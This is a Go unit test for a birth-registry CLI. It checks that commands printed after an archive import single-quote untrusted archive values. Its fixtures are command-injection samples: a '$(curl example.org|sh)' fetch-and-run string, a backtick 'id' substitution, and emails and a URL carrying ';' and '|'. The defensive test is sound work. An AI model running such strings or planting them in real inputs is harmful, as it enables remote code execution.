package cli

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"birthregistry/app/archive"
)

func TestCommandsThatAnImportPrintsHoldNoShellCodeOfTheArchive(t *testing.T) {
	b := archive.Brought{Admins: []string{"a;b@example.org"}, Known: []string{"c|d@example.org"}}
	b.Manifest.MadeAgain.Keys = []archive.Key{{Label: "$(curl example.org|sh)", Scopes: []string{"`id`"}}}
	b.Manifest.MadeAgain.EHRs = []archive.EHR{{Issuer: "https://ehr.example.org/;id"}}
	all := strings.Join(toDo(b), "\n")
	for _, quoted := range []string{`'a;b@example.org'`, `'c|d@example.org'`, `'$(curl example.org|sh)'`, "'`id`'", `'https://ehr.example.org/;id'`} {
		require.Contains(t, all, quoted)
	}
}
